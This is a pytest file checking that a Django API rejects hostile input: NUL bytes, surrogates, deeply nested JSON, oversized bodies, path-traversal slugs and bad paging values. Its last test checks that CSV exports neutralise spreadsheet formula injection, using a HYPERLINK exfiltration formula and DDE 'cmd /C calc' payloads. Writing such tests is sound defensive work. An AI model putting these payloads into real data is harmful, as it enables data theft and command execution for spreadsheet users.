"""Hostile input is answered, and nothing is stored: a 4xx with a JSON error naming what is wrong,
and the database exactly as it was. Run with `-s` to see the table of answers."""

import csv
import io
import json

import pytest
from django.core.cache import cache
from rest_framework.test import APIClient

from snapshots.records import curated_models

pytestmark = pytest.mark.django_db

COMMITMENT = "rome-2021-pledge-drive"
RESOURCES = {
    "meetings": "paris-2019-small-group",
    "statements": "copenhagen-2020-statement",
    "lines-of-effort": "ftf-information-sharing",
    "threads": "ftf-information-sharing",
    "commitments": COMMITMENT,
    "figures": "rome-2021-fig-people-freed",
    "members": "democratic-republic-of-the-congo",
    "participations": "~".join(
        ["rome-2021-ministerial", "democratic-republic-of-the-congo", "new-member", "rome-2021-ministerial-statement"]
    ),
    "assessments": f"{COMMITMENT}@2022-06-30",
}
DEEP = 1000


def deep(levels):
    return "[" * levels + "]" * levels


def raw(text):
    return text.encode("utf-8", "surrogatepass")


# (case, method, address, body, expected status, where the answer names the problem)
CASES = [
    *[
        (f"NUL in the path: {resource}", "GET", f"/api/v1/{resource}/a%00b/", None, 400, "detail")
        for resource in RESOURCES
    ],
    *[
        (f"NUL in the path: PATCH {resource}", "PATCH", f"/api/v1/{resource}/a%00b/", b"{}", 400, "detail")
        for resource in RESOURCES
    ],
    ("lone surrogate in the path (sent as UTF-8)", "GET", "/api/v1/commitments/a%ED%A0%80b/", None, 404, "detail"),
    ("NUL in the query", "GET", "/api/v1/commitments/?status=%00", None, 400, "status"),
    ("NUL in the query of a page", "GET", f"/api/v1/commitments/{COMMITMENT}/?format=%00", None, 400, "format"),
    (
        "lone surrogate in the query (sent as UTF-8)",
        "GET",
        "/api/v1/commitments/?status=%ED%A0%80",
        None,
        400,
        "status",
    ),
    ("NUL in a parameter's name", "GET", "/api/v1/meetings/?a%00=1", None, 400, "query"),
    (
        "lone surrogate in a choice",
        "PATCH",
        f"/api/v1/commitments/{COMMITMENT}/",
        raw('{"strength":"\\ud800"}'),
        400,
        "strength",
    ),
    (
        "lone surrogate in text",
        "PATCH",
        f"/api/v1/commitments/{COMMITMENT}/",
        raw('{"summary":"a\\udc00b"}'),
        400,
        "summary",
    ),
    ("NUL in text", "PATCH", f"/api/v1/commitments/{COMMITMENT}/", raw('{"summary":"a\\u0000b"}'), 400, "summary"),
    ("NUL in a filter of the admin", "GET", "/admin/commitments/commitment/?status=%00", None, 400, "status"),
    (
        "NUL in a new slug",
        "POST",
        "/api/v1/members/",
        raw('{"slug":"a\\u0000b","name":"X","kind":"state"}'),
        400,
        "slug",
    ),
    (
        f"JSON nested {DEEP} deep",
        "PATCH",
        f"/api/v1/commitments/{COMMITMENT}/",
        raw('{"summary":' + deep(DEEP) + "}"),
        400,
        "summary",
    ),
    (f"JSON nested {DEEP} deep, whole body", "POST", "/api/v1/members/", raw(deep(DEEP)), 400, "non_field_errors"),
    ("JSON nested 2,000 deep", "POST", "/api/v1/members/", raw(deep(2000)), 400, "detail"),
    ("body over 1 MiB", "POST", "/api/v1/members/", b'{"note":"' + b"x" * (1024 * 1024) + b'"}', 413, "detail"),
    ("body that is not JSON", "POST", "/api/v1/members/", b"{'slug':", 400, "detail"),
    ("body not UTF-8", "POST", "/api/v1/members/", b'{"slug":"\xff"}', 400, "detail"),
    (
        "quote with offsets that do not hold it",
        "PATCH",
        f"/api/v1/commitments/{COMMITMENT}/",
        raw('{"quote":"Pledge Drive","start":0}'),
        400,
        ("start", "quote"),  # the offset, or the quote that is not at it: either names what is wrong
    ),
    (
        "quote with an end that does not fit it",
        "PATCH",
        f"/api/v1/commitments/{COMMITMENT}/",
        None,
        400,
        "end",
    ),  # body built from the stored quote below
    ("page_size not a number", "GET", "/api/v1/commitments/?page_size=abc", None, 400, "page_size"),
    ("page_size 0", "GET", "/api/v1/meetings/?page_size=0", None, 400, "page_size"),
    ("page_size absurd", "GET", "/api/v1/commitments/?page_size=100000000000000000000", None, 400, "page_size"),
    ("page_size negative", "GET", "/api/v1/figures/?page_size=-5", None, 400, "page_size"),
    ("page number not a number", "GET", "/api/v1/meetings/?page=abc", None, 400, "page"),
    ("page number absurd", "GET", "/api/v1/meetings/?page=99999999999999999999999", None, 400, "page"),
    ("cursor garbage", "GET", "/api/v1/commitments/?cursor=garbage", None, 400, "cursor"),
    # Not base64 at all: DRF read them as no cursor, the first page.
    ("cursor of percent signs", "GET", "/api/v1/commitments/?cursor=%25%25%25", None, 400, "cursor"),
    ("cursor of exclamation marks", "GET", "/api/v1/commitments/?cursor=!!", None, 400, "cursor"),
    ("cursor of base64 zeros", "GET", "/api/v1/commitments/?cursor=AAAA", None, 400, "cursor"),
    ("cursor in a CSV request", "GET", "/api/v1/commitments/?format=csv&cursor=!!", None, 400, "cursor"),
    (
        "cursor with an absurd position",
        "GET",
        "/api/v1/commitments/?cursor=cD05OTk5OTk5OTk5OTk5OTk5OTk5OTk5",
        None,
        400,
        "cursor",
    ),
    (
        "date out of range",
        "PATCH",
        "/api/v1/meetings/paris-2019-small-group/",
        raw('{"end_date":"10000-01-01"}'),
        400,
        "end_date",
    ),
    (
        "date before the year 1",
        "PATCH",
        "/api/v1/meetings/paris-2019-small-group/",
        raw('{"start_date":"0000-12-31"}'),
        400,
        "start_date",
    ),
    (
        "end before start",
        "PATCH",
        "/api/v1/meetings/paris-2019-small-group/",
        raw('{"end_date":"1900-01-01"}'),
        400,
        "end_date",
    ),
    ("date filter out of range", "GET", "/api/v1/commitments/?date_after=99999-01-01", None, 400, "date_after"),
    ("year filter absurd", "GET", "/api/v1/meetings/?year=99999999999999999999", None, 400, "year"),
    ("amount out of range", "PATCH", f"/api/v1/commitments/{COMMITMENT}/", raw('{"amount":"1e30"}'), 400, "amount"),
    ("amount not a number", "PATCH", f"/api/v1/commitments/{COMMITMENT}/", raw('{"amount":"NaN"}'), 400, "amount"),
    (
        "figure value out of range",
        "PATCH",
        "/api/v1/figures/rome-2021-fig-people-freed/",
        raw('{"value":"123456789012345678901234567890"}'),
        400,
        "value",
    ),
    ("offset out of range", "PATCH", f"/api/v1/commitments/{COMMITMENT}/", raw('{"start":4294967296}'), 400, "start"),
    (
        "a number where text goes",
        "PATCH",
        "/api/v1/lines-of-effort/ftf-information-sharing/",
        raw('{"description":2.9e16}'),
        400,
        "description",
    ),
    (
        "text where a number goes",
        "PATCH",
        "/api/v1/lines-of-effort/ftf-information-sharing/",
        raw('{"position":"7"}'),
        400,
        "position",
    ),
    ("slug with a slash", "POST", "/api/v1/members/", raw('{"slug":"a/b","name":"X","kind":"state"}'), 400, "slug"),
    ("slug with dots", "POST", "/api/v1/members/", raw('{"slug":"..%2Fetc","name":"X","kind":"state"}'), 400, "slug"),
    ("slug with a slash in the address", "GET", "/api/v1/members/a%2Fb/", None, 404, "detail"),
    (
        "slug taken",
        "POST",
        "/api/v1/members/",
        raw('{"slug":"democratic-republic-of-the-congo","name":"X"}'),
        409,
        "slug",
    ),
    ("unknown format", "GET", "/api/v1/meetings/?format=xml", None, 404, "detail"),
    ("change without If-Match", "PATCH", f"/api/v1/commitments/{COMMITMENT}/", raw('{"note":"x"}'), 428, "detail"),
    ("change with a stale If-Match", "PATCH", f"/api/v1/commitments/{COMMITMENT}/", raw('{"note":"x"}'), 412, "detail"),
]


def database_state():
    """Every curated row's version, and how many history rows there are: what must not change."""
    state = {}
    for model in curated_models():
        state[model._meta.label] = sorted((row.pk, row.version()) for row in model._default_manager.all())
        state[f"{model._meta.label} history"] = model.history.count()
    return state


@pytest.fixture
def curator_api(seeded, curator):
    cache.clear()
    from commitments.models import Assessment, Commitment

    Assessment.objects.create(
        commitment=Commitment.objects.get(slug=COMMITMENT),
        assessed_on="2022-06-30",
        status="in-progress",
        assessor="Hostile input test",
    )
    client = APIClient()
    client.force_login(curator)  # a session: the admin case needs it, and CSRF is not enforced here
    return client


def if_match_for(case, address):
    """The header a careful client sends: the record's current ETag (a stale one for the 412 case)."""
    from commitments.models import Commitment

    if case == "change without If-Match":
        return {}
    if case == "change with a stale If-Match":
        return {"HTTP_IF_MATCH": '"' + "0" * len(Commitment.objects.get(slug=COMMITMENT).version()) + '"'}
    return {"HTTP_IF_MATCH": "*"} if "%00" in address else {"HTTP_IF_MATCH": "{etag}"}


@pytest.mark.parametrize(("case", "method", "address", "body", "expected", "names"), CASES, ids=[c[0] for c in CASES])
def test_hostile_input_is_answered_and_nothing_is_stored(curator_api, case, method, address, body, expected, names):
    from commitments.models import Commitment

    if case == "quote with an end that does not fit it":
        stored = Commitment.objects.get(slug=COMMITMENT)
        body = json.dumps({"quote": stored.quote, "start": stored.start, "end": stored.end + 1}).encode()
    headers = if_match_for(case, address) if method in ("PUT", "PATCH", "DELETE") else {}
    if headers.get("HTTP_IF_MATCH") == "{etag}":
        page = curator_api.get(address.split("?")[0])
        headers = {"HTTP_IF_MATCH": page["ETag"]} if page.status_code == 200 else {}
    before = database_state()

    response = curator_api.generic(method, address, data=body or b"", content_type="application/json", **headers)

    assert response.status_code == expected, response.content[:500]
    assert response["Content-Type"].startswith("application/json"), response["Content-Type"]
    answer = response.json()
    names = next((name for name in ([names] if isinstance(names, str) else names) if name in answer), names)
    assert names in answer, answer
    message = answer[names] if isinstance(answer[names], str) else " ".join(answer[names])
    print(f"| {case} | {method} {address[:70]} | {response.status_code} | {names}: {message[:120]} |")
    assert database_state() == before


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(curator_api):
    from commitments.models import Commitment

    formulas = {
        "summary": '=HYPERLINK("http://example.org/steal?d="&A1,"click")',
        "actor": "+1+cmd|' /C calc'!A0",
        "deadline_text": "-2+3",
        "note": "@SUM(1+1)*cmd|' /C calc'!A0",
        "currency": "",
    }
    Commitment.objects.filter(slug=COMMITMENT).update(**formulas)
    Commitment.objects.filter(slug="berlin-2016-un-stabilization-facilities").update(summary="\t=1+1", note="\r=1+1")
    response = curator_api.get("/api/v1/commitments/", {"format": "csv"})
    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))}
    pledge = rows[COMMITMENT]
    for name in ("summary", "actor", "deadline_text", "note"):
        assert pledge[name] == "'" + formulas[name], name
    assert rows["berlin-2016-un-stabilization-facilities"]["summary"] == "'\t=1+1"
    assert rows["berlin-2016-un-stabilization-facilities"]["note"] == "'\r=1+1"
    # Numbers stay numbers, negative ones included.
    assert all(not row["start"].startswith("'") for row in rows.values())
